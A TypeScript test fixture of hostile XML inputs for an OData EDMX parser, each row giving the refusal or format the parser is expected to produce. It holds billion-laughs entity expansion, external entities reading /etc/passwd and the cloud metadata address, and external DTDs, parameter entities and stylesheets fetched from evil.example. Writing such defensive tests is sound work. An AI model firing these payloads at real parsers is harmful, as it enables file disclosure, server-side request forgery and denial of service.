import { row, type BrokenDocument } from './BrokenDocument';
import { EDMX_4 } from './samples';

const BAD_XML = /^is not well-formed XML/;
const DTD = /^has a document type declaration \(DOCTYPE\), which is not taken/;

const [DECLARATION = ''] = EDMX_4.split('\n');

function withDoctype(doctype: string): string {
  return EDMX_4.replace(DECLARATION, `${DECLARATION}\n${doctype}`);
}

/** Entities of entities: ten to the power of `levels` characters. */
function xmlLaughs(levels: number): string {
  const lines = ['<!DOCTYPE edmx:Edmx [', '<!ENTITY l0 "lollollol">'];
  for (let level = 1; level <= levels; level++) {
    lines.push(`<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`);
  }
  return withDoctype([...lines, ']>'].join('\n')).replace(
    'All orders',
    `&l${levels};`,
  );
}

/** XML that wants to multiply, or to read what is not its own. */
export const HOSTILE_XML: BrokenDocument[] = [
  row('api', 'laughs in XML', xmlLaughs(9), { refused: DTD, line: 2 }),
  row(
    'api',
    'one entity, many times',
    withDoctype(`<!DOCTYPE a [<!ENTITY b "${'b'.repeat(50_000)}">]>`).replace(
      'All orders',
      '&b;'.repeat(5000),
    ),
    { refused: DTD, line: 2 },
  ),
  row(
    'api',
    'an entity in a file',
    withDoctype(
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    ).replace('All orders', '&b;'),
    { refused: DTD, line: 2 },
  ),
  row(
    'api',
    'an entity on another machine',
    withDoctype('<!DOCTYPE a [<!ENTITY b SYSTEM "http://169.254.169.254/">]>'),
    { refused: DTD, line: 2 },
  ),
  row(
    'api',
    'a document type elsewhere',
    withDoctype('<!DOCTYPE a SYSTEM "https://evil.example/a.dtd">'),
    { refused: DTD, line: 2 },
  ),
  row(
    'api',
    'parameter entities',
    withDoctype(
      '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/b.dtd"> %b;]>',
    ),
    { refused: DTD, line: 2 },
  ),
  row('api', 'a document type without an end', withDoctype('<!DOCTYPE a ['), {
    refused: BAD_XML,
  }),
  row(
    'api',
    'an entity without its declaration',
    EDMX_4.replace('All orders', '&orders;'),
    { refused: BAD_XML, line: 26 },
  ),
  row(
    'api',
    'a character that XML does not allow',
    EDMX_4.replace('All orders', '&#0;'),
    { refused: BAD_XML, line: 26 },
  ),
  row(
    'api',
    'inclusion of a file',
    EDMX_4.replace(
      '</Schema>',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></Schema>',
    ),
    { format: 'odata-edmx' },
  ),
  row(
    'api',
    'a style sheet',
    EDMX_4.replace(
      DECLARATION,
      `${DECLARATION}<?xml-stylesheet href="https://evil.example/a.xsl"?>`,
    ),
    { format: 'odata-edmx' },
  ),
  row(
    'api',
    'a reference to another document',
    EDMX_4.replace(
      '<edmx:DataServices>',
      '<edmx:Reference Uri="file:///etc/passwd"><edmx:Include Namespace="far" Alias="f"/></edmx:Reference><edmx:DataServices>',
    ).replace('Type="self.Status"', 'Type="f.Status"'),
    { format: 'odata-edmx' },
  ),
];
